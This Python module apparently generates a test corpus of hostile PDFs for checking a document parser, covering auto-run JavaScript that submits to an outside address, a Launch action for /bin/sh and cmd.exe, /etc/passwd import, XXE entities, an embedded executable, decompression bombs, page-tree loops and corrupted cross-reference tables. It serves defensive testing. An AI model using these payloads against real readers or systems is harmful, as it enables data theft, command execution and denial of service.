"""PDF files that run, launch, connect, embed, swell, loop or lie."""

import zlib
from collections.abc import Iterator

from hostile.made import CANARY_PATH, WORDS, Hostile, bomb, pdf, sound_pdf, stream

SAYS = [["Two villages burned on Monday,", "a resident of Upper Example said."]]
READ = ("ok",)
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]"


def files() -> Iterator[Hostile]:
    """The whole family."""
    for name, catalog, more in _actions():
        yield Hostile("pdf", f"{name}.pdf", sound_pdf(SAYS, catalog=catalog, more=more), READ)
    yield from _bombs()
    yield from _loops()
    yield from _tables()
    yield from _others()


def _actions() -> Iterator[tuple[str, bytes, list[bytes]]]:
    """(name, what the catalog says, more objects): each would do something in a careless program."""
    script = b"<</S/JavaScript/JS(app.alert\\('x'\\);this.submitForm\\('http://198.51.100.7'\\))>>"
    yield "script-on-opening", b"/OpenAction 6 0 R", [script]
    yield "script-in-names", b"/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", [script]
    yield "script-in-stream", b"/OpenAction<</S/JavaScript/JS 6 0 R>>", [stream(b"app.alert(1)" * 99)]
    yield "launch", b"/OpenAction 6 0 R", [b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"]
    yield "link", b"/OpenAction 6 0 R", [b"<</S/URI/URI(http://198.51.100.7/track)>>"]
    yield "submit", b"/OpenAction 6 0 R", [b"<</S/SubmitForm/F(http://198.51.100.7/form)>>"]
    yield "import", b"/OpenAction 6 0 R", [b"<</S/ImportData/F(/etc/passwd)>>"]
    yield (
        "go-to-remote",
        b"/OpenAction 6 0 R",
        [b"<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\share)/D[0/Fit]>>"],
    )
    yield "go-to-embedded", b"/OpenAction 6 0 R", [b"<</S/GoToE/F(a.pdf)/D[0/Fit]>>"]
    yield "rendition", b"/OpenAction 6 0 R", [b"<</S/Rendition/JS(app.alert\\(1\\))>>"]
    yield "on-closing", b"/AA<</WC 6 0 R/WS 6 0 R>>", [script]
    embedded = [b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", stream(b"MZ" + bytes(300))]
    yield "embedded-program", b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", embedded
    yield "xfa", b"/AcroForm<</XFA 6 0 R/Fields[]>>", [stream(b"<xdp:xdp><script>x</script></xdp:xdp>")]
    xxe = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY_PATH}">]><x>&e;</x>'.encode()
    yield "xfa-entity", b"/AcroForm<</XFA 6 0 R/Fields[]>>", [stream(xxe)]
    yield "metadata-entity", b"/Metadata 6 0 R", [stream(xxe, b"/Type/Metadata/Subtype/XML")]
    chain = [b"<</S/URI/URI(http://198.51.100.7)/Next 6 0 R>>"]
    yield "endless-chain", b"/OpenAction 6 0 R", chain
    yield "many-scripts", b"/OpenAction 6 0 R", [script] * 3_000


def _one_page(content: bytes, *, resources: bytes = b"", more: list[bytes] | None = None) -> bytes:
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE + b"/Resources<<%s/Font<</F1 5 0 R>>>>/Contents 4 0 R>>" % resources,
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    return pdf([*objects, *(more or [])])


def _bombs() -> Iterator[Hostile]:
    flate = b"/Filter/FlateDecode"
    yield Hostile("pdf", "flate-bomb.pdf", _one_page(stream(bomb(900), flate)))
    twice = zlib.compress(bomb(900), 9)
    yield Hostile(
        "pdf", "flate-bomb-twice.pdf", _one_page(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    )
    yield Hostile(
        "pdf",
        "filters-without-end.pdf",
        _one_page(stream(b"x", b"/Filter[%s]" % (b"/FlateDecode" * 5_000))),
    )
    yield Hostile(
        "pdf", "lzw.pdf", _one_page(stream(b"\x80\x0b\x60\x50" * 5_000, b"/Filter/LZWDecode"))
    )
    yield Hostile(
        "pdf", "run-length.pdf", _one_page(stream(b"\x81a" * 500_000, b"/Filter/RunLengthDecode"))
    )
    picture = b"/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    for name, filters in (
        ("jbig2", b"JBIG2Decode"),
        ("dct", b"DCTDecode"),
        ("jpx", b"JPXDecode"),
        ("ccitt", b"CCITTFaxDecode"),
    ):
        drawn = stream(b"q 600 0 0 700 0 0 cm /I Do Q")
        inside = stream(b"\x97JB2\r\n\x1a\n" + bytes(400), picture + b"/Filter/" + filters)
        data = _one_page(drawn, resources=b"/XObject<</I 6 0 R>>", more=[inside])
        yield Hostile("pdf", f"picture-{name}.pdf", data, ("empty", "refused", "crashed"))
    form = b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield Hostile(
        "pdf",
        "form-in-itself.pdf",
        _one_page(
            stream(b"/X Do"), resources=b"/XObject<</X 6 0 R>>", more=[stream(b"/X Do " * 50, form)]
        ),
    )
    yield Hostile(
        "pdf",
        "operators.pdf",
        _one_page(stream(b"q " * 500_000)),
        ("empty", "refused", "crashed", "timeout"),
    )
    words = b"BT /F1 1 Tf " + b"(a) Tj " * 300_000 + b"ET"
    yield Hostile("pdf", "letters.pdf", _one_page(stream(zlib.compress(words), flate)))
    yield Hostile(
        "pdf",
        "predictor.pdf",
        _one_page(
            stream(
                zlib.compress(b"a" * 99),
                flate
                + b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>",
            )
        ),
    )


def _loops() -> Iterator[Hostile]:
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    yield Hostile(
        "pdf",
        "pages-loop.pdf",
        pdf([root, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        ("empty", "refused"),
    )
    yield Hostile(
        "pdf",
        "pages-loop-long.pdf",
        pdf(
            [
                root,
                b"<</Type/Pages/Kids[3 0 R]/Count 2>>",
                b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 2>>",
            ]
        ),
        ("empty", "refused"),
    )
    yield Hostile(
        "pdf",
        "count-lie.pdf",
        pdf([root, b"<</Type/Pages/Kids[]/Count 2147483647>>"]),
        ("empty", "refused"),
    )
    yield Hostile(
        "pdf",
        "count-negative.pdf",
        pdf([root, b"<</Type/Pages/Kids[]/Count -7>>"]),
        ("empty", "refused"),
    )
    yield Hostile(
        "pdf",
        "arrays.pdf",
        pdf([root, b"<</Type/Pages/Kids[]/Count 0>>", b"[" * 200_000]),
        ("empty", "refused", "crashed"),
    )
    yield Hostile(
        "pdf",
        "dictionaries.pdf",
        pdf([root, b"<</Type/Pages/Kids[]/Count 0>>", b"<</A" * 100_000]),
        ("empty", "refused", "crashed"),
    )
    yield Hostile("pdf", "length-in-itself.pdf", _one_page(b"<</Length 4 0 R>>stream\nx\nendstream"))
    yield Hostile(
        "pdf",
        "many-pages.pdf",
        pdf([root, b"<</Type/Pages/Kids[%s]/Count 20000>>" % (b"3 0 R " * 20_000), PAGE + b">>"]),
        ("refused", "empty", "timeout"),
    )
    yield Hostile(
        "pdf",
        "parent-loop.pdf",
        pdf(
            [
                root,
                b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
                b"<</Type/Page/Parent 2 0 R/Kids[2 0 R]>>",
            ]
        ),
    )


def _tables() -> Iterator[Hostile]:
    sound = sound_pdf(SAYS)
    yield Hostile("pdf", "table-lie.pdf", sound.replace(b"startxref\n", b"startxref\n9"))
    yield Hostile(
        "pdf",
        "table-beyond.pdf",
        sound[: sound.rfind(b"startxref")] + b"startxref\n99999999999999\n%%EOF",
    )
    yield Hostile("pdf", "table-missing.pdf", sound[: sound.rfind(b"xref\n0")])
    yield Hostile(
        "pdf",
        "table-before-itself.pdf",
        sound.replace(b"/Size", b"/Prev %d/Size" % sound.rfind(b"xref\n0")),
    )
    yield Hostile("pdf", "entries-wrong.pdf", sound.replace(b"00000 n", b"99999 n"))
    yield Hostile("pdf", "size-lie.pdf", sound.replace(b"/Size 6", b"/Size 2147483647"))
    yield Hostile("pdf", "root-missing.pdf", sound.replace(b"/Root 1 0 R", b"/Root 77 0 R"))
    newer = sound.replace(b"Two villages", b"No  villages")
    yield Hostile("pdf", "second-version.pdf", sound + newer[newer.find(b"5 0 obj") :])
    yield Hostile("pdf", "hundred-versions.pdf", sound + b"%%EOF\n" * 100)
    yield Hostile("pdf", "truncated.pdf", sound[: len(sound) // 2])


def _others() -> Iterator[Hostile]:
    sound = sound_pdf(SAYS)
    locked = sound.replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O(%s)/U(%s)>>/ID[(a)(b)]"
        % (b"o" * 32, b"u" * 32),
    )
    yield Hostile("pdf", "locked.pdf", locked, ("refused",))
    yield Hostile("pdf", "locked-oddly.pdf", locked.replace(b"/V 2", b"/V 99"), ("refused",))
    yield Hostile("pdf", "only-the-mark.pdf", b"%PDF-1.7", ("refused",))
    yield Hostile("pdf", "words-after-the-mark.pdf", b"%PDF-1.7\n" + WORDS.encode() * 9, ("refused",))
    yield Hostile("pdf", "web-page-first.pdf", b"<html><script>alert(1)</script>" + sound)
    yield Hostile("pdf", "zip-after.pdf", sound + b"PK\3\4" + bytes(200))
    yield Hostile("pdf", "no-words.pdf", sound_pdf([[]]), ("empty",))
    yield Hostile("pdf", "one-page-of-two.pdf", sound_pdf([*SAYS, []]), ("partial",))
    yield Hostile(
        "pdf", "page-wide-as-a-country.pdf", sound.replace(b"[0 0 612 792]", b"[-1e38 -1e38 1e38 1e38]")
    )
    yield Hostile("pdf", "font-size-endless.pdf", sound.replace(b"/F1 12 Tf", b"/F1 1e99 Tf"))
    yield Hostile(
        "pdf",
        "font-lie.pdf",
        sound.replace(
            b"/Type1/BaseFont/Helvetica", b"/TrueType/BaseFont/X/FirstChar -5/LastChar 999999/Widths[]"
        ),
    )
    unicode_lie = stream(b"1 beginbfrange <00> <ffffffff> <d800> endbfrange")
    yield Hostile(
        "pdf",
        "letters-lie.pdf",
        sound_pdf(SAYS, more=[unicode_lie]).replace(b"/Encoding/WinAnsiEncoding", b"/ToUnicode 6 0 R"),
    )
